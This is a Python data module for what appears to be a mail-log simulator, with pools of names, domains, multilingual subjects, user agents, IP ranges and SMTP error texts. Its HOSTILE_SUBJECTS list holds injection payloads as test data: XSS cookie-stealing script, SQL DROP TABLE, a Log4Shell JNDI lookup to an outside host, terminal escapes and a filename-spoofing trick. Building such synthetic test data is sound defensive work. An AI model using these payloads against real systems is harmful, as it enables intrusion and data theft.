"""Static pools the simulator draws from: names, domains, subjects, user agents, IP ranges.

Everything here is invented. Domains of partner companies are made-up compounds; free-mail
domains are the well-known public ones, because that is what real logs show.
"""

from __future__ import annotations

from functools import cache

FIRST_NAMES: tuple[str, ...] = (
    "Anna", "Ben", "Clara", "David", "Elena", "Felix", "Greta", "Hannah", "Jonas", "Jürgen",
    "Katrin", "Lukas", "Marie", "Niklas", "Olga", "Paul", "Sophie", "Tobias", "Ulrike",
    "Valentin", "Wiebke", "Yusuf", "Zoe", "Andreas", "Birgit", "Christian", "Dominik", "Eva",
    "Frank", "Gabriele", "Heike", "Ingo", "Julia", "Karl", "Lena", "Markus", "Nina", "Oliver",
    "Petra", "Ralf", "Sabine", "Thomas", "Ute", "Volker", "Werner", "Anja", "Bernd", "Carsten",
    "Dirk", "Elke", "Florian", "Gerd", "Holger", "Iris", "Jan", "Kerstin", "Lars", "Monika",
    "Nadine", "Patrick", "Regina", "Stefan", "Tanja", "Uwe", "Vera", "Wolfgang", "Ayşe",
    "Mehmet", "Piotr", "Agnieszka", "Luca", "Giulia", "Mateo", "Sofia", "Noah", "Emma", "Leon",
    "Mia", "Finn", "Lea", "Jörg", "Björn", "Sören", "Maik", "René", "André", "Chiara", "Emil",
)  # fmt: skip

LAST_NAMES: tuple[str, ...] = (
    "Müller", "Schmidt", "Schneider", "Fischer", "Weber", "Meyer", "Wagner", "Becker", "Schulz",
    "Hoffmann", "Schäfer", "Koch", "Bauer", "Richter", "Klein", "Wolf", "Schröder", "Neumann",
    "Schwarz", "Zimmermann", "Braun", "Krüger", "Hofmann", "Hartmann", "Lange", "Schmitt",
    "Werner", "Schmitz", "Krause", "Meier", "Lehmann", "Schmid", "Schulze", "Maier", "Köhler",
    "Herrmann", "König", "Walter", "Mayer", "Huber", "Kaiser", "Fuchs", "Peters", "Lang",
    "Scholz", "Möller", "Weiß", "Jung", "Hahn", "Schubert", "Vogel", "Friedrich", "Keller",
    "Günther", "Frank", "Berger", "Winkler", "Roth", "Beck", "Lorenz", "Baumann", "Franke",
    "Albrecht", "Schuster", "Simon", "Ludwig", "Böhm", "Winter", "Kraus", "Martin",
    "Schumacher", "Krämer", "Vogt", "Stein", "Jäger", "Otto", "Sommer", "Groß", "Seidel",
    "Heinrich", "Brandt", "Haas", "Schreiber", "Graf", "Schulte", "Dietrich", "Ziegler", "Kuhn",
    "Pohl", "Engel", "Horn", "Busch", "Bergmann", "Voigt", "Sauer", "Arnold", "Pfeiffer",
    "Yılmaz", "Kowalski", "Rossi", "Nowak", "Dubois", "Jansen", "Novák", "Smith", "García",
)  # fmt: skip

_TRANSLIT = str.maketrans(
    {"ä": "ae", "ö": "oe", "ü": "ue", "ß": "ss", "é": "e", "á": "a", "ş": "s", "ı": "i",
     "ç": "c", "ğ": "g", "í": "i"}
)  # fmt: skip


@cache
def ascii_name(name: str) -> str:
    """``"Jürgen"`` -> ``"juergen"``: the mailbox spelling of a display name part."""
    out = name.lower().translate(_TRANSLIT)
    return "".join(ch for ch in out if ch.isascii() and (ch.isalnum() or ch == "-"))


PARTNER_STEMS: tuple[str, ...] = (
    "nordwind", "alpenblick", "rheintal", "elbufer", "hansetor", "sonnenhof", "bergwerk",
    "sternwarte", "blauwal", "gruenwald", "eichenhain", "lindenhof", "falkenstein", "adlerhorst",
    "kristall", "silberling", "quadrat", "prismatec", "deltaform", "brightpath", "oakridge",
    "bluecrest", "northgate", "silverline", "redfield", "greenleaf", "westbrook", "ironbridge",
    "clearwater", "summitview", "weserland", "mainbogen", "isarwerk", "donautal", "harzblick",
)  # fmt: skip
PARTNER_KINDS: tuple[str, ...] = (
    "logistik", "bau", "consult", "technik", "media", "partner", "systeme", "handel",
    "immobilien", "steuerberatung", "recht", "druck", "metall", "elektro", "software",
    "medizintechnik", "versand", "energie", "group", "solutions", "trading", "labs",
)  # fmt: skip
PARTNER_TLDS: tuple[str, ...] = (
    ".de", ".de", ".de", ".de", ".de", ".de", ".com", ".com", ".at", ".ch", ".eu", ".nl",
    ".co.uk", ".fr", ".it", ".pl", ".cz", ".dk",
)  # fmt: skip

FREEMAIL: tuple[str, ...] = (
    "gmail.com", "web.de", "gmx.de", "gmx.net", "t-online.de", "outlook.com", "hotmail.com",
    "yahoo.com", "icloud.com", "aol.com", "freenet.de", "posteo.de", "hotmail.de", "yahoo.de",
    "live.com", "mail.com", "proton.me",
)  # fmt: skip
BURST_DOMAINS: tuple[str, ...] = (
    *FREEMAIL,
    "mail.ru", "yandex.ru", "qq.com", "163.com", "rediffmail.com", "libero.it", "orange.fr",
    "wanadoo.fr", "sbcglobal.net", "comcast.net", "att.net", "bellsouth.net", "naver.com",
    "seznam.cz", "wp.pl", "o2.pl", "abv.bg", "rambler.ru", "uol.com.br", "terra.com.br",
)  # fmt: skip

SPAM_TLDS: tuple[str, ...] = (".top", ".xyz", ".info", ".biz", ".click", ".site", ".online", ".ru")
SPAM_WORDS: tuple[str, ...] = (
    "promo", "deal", "winner", "secure", "verify", "bonus", "crypto", "pharma", "luxury",
    "update", "parcel", "invest", "dating", "loan", "prize", "alert", "service", "account",
)  # fmt: skip

NOTIFIERS: tuple[tuple[str, str], ...] = (
    ("noreply@cloudinvoice-portal.com", "CloudInvoice"),
    ("no-reply@ticketdesk-notify.net", "TicketDesk"),
    ("status@paketdienst-tracking.de", "Paketdienst"),
    ("service@geschaeftskonto-online.de", "Geschäftskonto"),
    ("newsletter@fachverband-logistik.de", "Fachverband Logistik"),
    ("info@messe-kalender.eu", "Messekalender"),
    ("noreply@webinar-platform.com", "Webinar Platform"),
    ("notifications@crm-cloudsuite.com", "CRM Cloudsuite"),
    ("alerts@monitoring-hub.io", "Monitoring Hub"),
    ("news@branchen-news.de", "Branchen-News"),
    ("reisen@travel-booking.eu", "Travel Booking"),
    ("noreply@linkup-network.com", "LinkUp"),
)  # fmt: skip

BUSINESS_SUBJECTS: tuple[str, ...] = (
    "Angebot Nr. {n}", "Angebot, Rückfragen", "Rückfragen zum Angebot {n}",
    "Termin nächste Woche", "Protokoll Besprechung vom {d}.03.", "Lieferung KW {w}",
    "Rechnung {n}", "Bestellung {n}", "Projektstatus", "Projektstatus, Meilenstein {w}",
    "Unterlagen für Montag", "Urlaubsvertretung", "Update: Lieferplan, Version {v}",
    "Größenänderung der Lieferung", "Übergabe Schlüssel, Büro {v}", "Preisliste {y}",
    "Vertragsentwurf", "Vertragsentwurf, Anmerkungen", "Reklamation Auftrag {n}",
    "Frage zur Rechnung {n}", "Zeichnungen Rev. {v}", "Abstimmung Messeplanung",
    "Quarterly report", "Meeting notes, action items", "Contract draft v{v}",
    "Shipping schedule week {w}", "Purchase order {n}", "Invoice {n}", "Quick question",
    "Agenda for Thursday", "Samples, pricing and lead times", "Kickoff call", "Budget {y}",
    "Wartungsvertrag {n}", "Schulungstermine", "Auftragsbestätigung {n}", "Mahnung {n}",
    "Ihre Anfrage vom {d}.03.", "Inventur", "Zugangsdaten Portal", "Fotos vom Termin",
    "Résumé de la réunion", "Ofertă preț {n}", "Zamówienie nr {n}", "Café-Termin 🙂",
)  # fmt: skip
FOREIGN_SUBJECTS: tuple[str, ...] = (
    "Заказ №{n} — подтверждение", "报价请求 {n}", "見積もりのお願い", "Παραγγελία {n}",
    "Teklif talebi {n}", "Objednávka č. {n}", "Pedido {n}, confirmación",
)  # fmt: skip
HOSTILE_SUBJECTS: tuple[str, ...] = (
    "<script>alert(1)</script>",
    "Rechnung \x1b[31mÜBERFÄLLIG\x1b[0m",
    "\x1b]0;owned\x07Invoice 2231",
    "Re: Angebot, Msg-Id: <decoy@evil.example>",
    "'; DROP TABLE messages; --",
    "${jndi:ldap://198.51.100.23/a}",
    "<img src=x onerror=alert(document.cookie)>",
    "%s%s%s%n payment",
    "Order \u202egnp.exe confirmation",
    "{{7*7}} Ihre Bestellung",
)
NOTIFY_SUBJECTS: tuple[str, ...] = (
    "Ihre Rechnung {n} ist verfügbar", "Sendungsstatus: zugestellt", "Neuer Kommentar zu #{n}",
    "Webinar reminder: starts in 1 hour", "Weekly digest", "Kontoauszug verfügbar",
    "Your booking confirmation {n}", "Alert resolved: disk usage", "Branchen-News KW {w}",
    "Einladung: Fachtagung {y}", "Passwort läuft in 7 Tagen ab", "Ticket #{n} updated",
)  # fmt: skip
SPAM_SUBJECTS: tuple[str, ...] = (
    "Your account will be suspended", "Invoice #{n} overdue", "Congratulations, you have won!",
    "Bitcoin: 4,200 EUR per day", "Paket konnte nicht zugestellt werden",
    "Sicherheitsupdate erforderlich", "RE: Order confirmation {n}", "Private message for you",
    "Business proposal, urgent", "Cheap meds, no prescription", "You have (3) unread messages",
    "Last chance: 90% off", "Verify your mailbox now", "Darlehen ohne Schufa",
)  # fmt: skip
PHISH_SUBJECTS: tuple[str, ...] = (
    "Dokument freigegeben: Angebot_{n}.pdf", "Shared document: Invoice {n}",
    "Please review the attached payment advice", "Neue Bankverbindung ab sofort",
    "Updated bank details for invoice {n}", "Zahlungsinformationen aktualisiert",
    "Fax message received ({v} pages)", "Voicemail from +49 30 {n}",
)  # fmt: skip
SUPPORT_SUBJECTS: tuple[str, ...] = (
    "Problem mit Bestellung {n}", "Frage zu Rechnung {n}", "Login funktioniert nicht",
    "Lieferung nicht angekommen", "Rücksendung Auftrag {n}", "Passwort vergessen",
    "Cannot access my account", "Order {n} missing item", "Warranty claim {n}",
    "Änderung der Lieferadresse", "Produktfrage: Modell {v}", "Kündigung Vertrag {n}",
)  # fmt: skip

WEBMAIL_AGENTS: tuple[str, ...] = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/122.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/122.0.0.0 Safari/537.36 Edg/122.0.2365.66",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:123.0) Gecko/20100101 Firefox/123.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/17.3.1 Safari/605.1.15",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/121.0.0.0 Safari/537.36",
)
ATTACKER_AGENTS: tuple[str, ...] = (
    "Mozilla/5.0 (X11; Linux x86_64; rv:68.0) Gecko/20100101 Firefox/68.0",
    "Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko",
    "python-requests/2.31.0",
    "Mozilla/5.0 (X11; Ubuntu; Linux i686; rv:52.0) Gecko/20100101 Firefox/52.0",
)

#: First octets of ordinary public address space used for partners, carriers and hotels.
PUBLIC_OCTETS: tuple[int, ...] = (
    5, 31, 37, 46, 62, 77, 78, 79, 80, 81, 82, 83, 84, 85, 86, 87, 88, 89, 90, 93, 94, 95,
    109, 130, 134, 141, 145, 151, 176, 178, 188, 193, 194, 195, 212, 213, 217,
)  # fmt: skip
#: Prefixes the background internet noise and the planted attackers come from.
ATTACKER_PREFIXES: tuple[str, ...] = (
    "45.", "185.", "91.", "103.", "141.98.", "193.32.", "194.26.", "80.94.", "5.188.",
    "92.63.", "179.43.", "2.57.", "89.248.", "162.142.", "198.51.100.", "203.0.113.",
    "192.0.2.", "118.", "222.", "36.",
)  # fmt: skip
#: German mobile carrier pools for phones (CGNAT egress addresses change often).
CARRIER_PREFIXES: tuple[str, ...] = ("80.187.", "109.40.", "176.6.", "37.80.", "2.205.")

DNSBL_NAMES: tuple[str, ...] = (
    "SpamCop", "UCEProtect1", "BarracudaCentral", "SpamhausZEN", "SORBS-DNSBL",
)  # fmt: skip
VIRUS_NAMES: tuple[str, ...] = (
    "W32/Netsky.p@MM", "HTML/Phishing.Gen", "Trojan.GenericKD.7134", "JS/Downloader.Agent",
    "VBA/TrojanDownloader.Agent",
)  # fmt: skip
ALIAS_LOCALS: tuple[str, ...] = (
    "sales", "info", "office", "einkauf", "buchhaltung", "presse", "jobs", "service",
    "vertrieb", "kontakt", "marketing", "events", "personal", "empfang", "export",
)  # fmt: skip
GUESSED_LOCALS: tuple[str, ...] = (
    "admin", "test", "printer", "scanner", "postmaster", "webmaster", "user", "backup",
    "support1", "mail", "root", "info1", "noreply", "hr", "contact",
)  # fmt: skip
DELAY_TEXTS: tuple[str, ...] = (
    "4.4.1 Cannot connect to host",
    "4.4.1 Cannot connect to host",
    "4.7.1 Greylisted, please try again later",
    "4.2.1 Mailbox temporarily unavailable",
    "4.4.2 Connection timed out",
)
FAIL_TEXTS: tuple[str, ...] = (
    "5.1.1 User unknown",
    "5.1.1 <{r}>: Recipient address rejected: User unknown in virtual mailbox table",
    "5.7.1 Service unavailable, client host blocked using zen.spamhaus.org",
    "5.2.2 Mailbox full",
    "5.4.1 Recipient address rejected: Access denied",
)
BURST_FAIL_TEXTS: tuple[str, ...] = (
    "5.7.1 Service unavailable, client host blocked using zen.spamhaus.org",
    "5.7.1 Message rejected as spam",
    "5.1.1 User unknown",
    "5.7.0 Our system has detected an unusual rate of unsolicited mail",
    "5.4.1 Recipient address rejected: Access denied",
)
